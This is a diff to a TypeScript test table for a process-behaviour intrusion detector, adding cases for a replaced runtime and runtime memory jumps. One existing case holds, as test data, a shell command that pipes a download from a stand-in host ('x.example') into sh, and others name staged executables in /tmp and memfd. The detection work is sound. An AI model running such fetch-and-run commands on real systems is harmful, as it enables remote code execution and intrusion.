@@ -34,6 +34,7 @@ function sinceInit(facts: Parameters<typeof processOf>[0]): Look {
 const CASES: Readonly<Record<string, Case>> = {
   'another program under the pid of the runtime': { finds: 'runtime-changed:critical', in: look({ processes: [{ ...RUNTIME, exe: '/tmp/new_runtime' }] }), not: look({ processes: [{ ...RUNTIME, argv: ['my-service'] }] }), atMost: 'low' },
   'another interpreter of the system under the pid of the runtime': { finds: 'runtime-changed:high', in: look({ processes: [{ ...RUNTIME, exe: '/usr/bin/python3' }] }), not: look({ processes: [processOf({ pid: 9, startTicks: 9999, role: 'runtime', exe: '/usr/bin/python3' })] }) },
+  'the same program once more under the pid of the runtime': { finds: 'runtime-changed:high', in: look({ processes: [{ ...RUNTIME, layout: '7:8:9' }] }), not: look({ processes: [{ ...RUNTIME, argv: ['my-service'] }, processOf({ layout: '7:8:9' })] }), atMost: 'low' },
   'a memfd': { finds: 'staged-executable:high', in: one({ exe: '/memfd:x', exeDeleted: true }), not: one({ exe: '/var/task/memfd:x' }) },
   'a deleted executable of /tmp': { finds: 'staged-executable:high', in: one({ exe: '/tmp/stage2', exeDeleted: true }), not: one({ exe: '/tmpfiles/stage2' }) },
   'an executable of /tmp': { finds: 'staged-executable:medium', in: one({ exe: '/tmp/tool' }), not: look({ processes: [processOf({ exe: '/tmp/tool' })] }, baselineOf({ processes: [processOf({ exe: '/tmp/tool' })] })), atMost: 'low' },
@@ -97,6 +98,7 @@ const CASES: Readonly<Record<string, Case>> = {
   'a built-in out of a text': { finds: 'patched-builtins:high', in: inside({ own: ownOf({ patched: [{ name: 'JSON.parse', script: '' }] }) }), not: inside({ own: ownOf({ patched: [{ name: 'http.request', script: 'file:///opt/nodejs/trace.mjs' }] }) }), atMost: 'low' },
   'a command line of an intruder': { finds: 'child-process-use:high', in: inside({ own: ownOf({ spawned: [{ file: '/bin/sh', args: '-c curl -s http://x.example/a | sh', pid: 3, atMs: 1 }] }) }), not: inside({ own: ownOf({ spawned: [{ file: 'git', args: '--version', pid: 3, atMs: 1 }] }) }) },
   'a file of /tmp that was started': { finds: 'child-process-use:low', in: inside({ own: ownOf({ spawned: [{ file: '/tmp/chromium', args: '--headless', pid: 3, atMs: 1 }] }) }), not: inside({ own: ownOf({ spawned: [{ file: '/var/task/bin/x', args: '/tmp/in /tmp/out', pid: 3, atMs: 1 }] }) }) },
+  'memory of a runtime that has doubled': { finds: 'resource-jump:low', in: look({ processes: [{ ...RUNTIME, rssBytes: 9e8 }] }), not: look({ processes: [{ ...RUNTIME, rssBytes: 1e8 }, processOf({ rssBytes: 9e8 })] }) },
   'memory that has doubled': { finds: 'resource-jump:low', in: inside({ own: ownOf({ rssBytes: 2e9 }) }), not: inside({ own: ownOf({ rssBytes: 1.9e8 }) }) },
 };
 
